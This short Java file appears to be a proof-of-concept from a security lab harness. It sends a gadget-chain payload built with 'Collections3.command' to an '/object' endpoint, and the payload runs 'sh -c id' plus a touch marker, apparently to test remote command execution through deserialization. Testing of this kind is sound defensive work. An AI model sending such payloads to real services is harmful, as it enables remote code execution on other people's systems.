import whorl.lab.attack.Attacker;
import whorl.lab.attack.Collections3;

public class Attack {
  public static void main(String[] args) throws Exception {
    Attacker.post("/object", Collections3.command("sh", "-c", "id; " + Attacker.touch()));
    Attacker.done();
  }
}
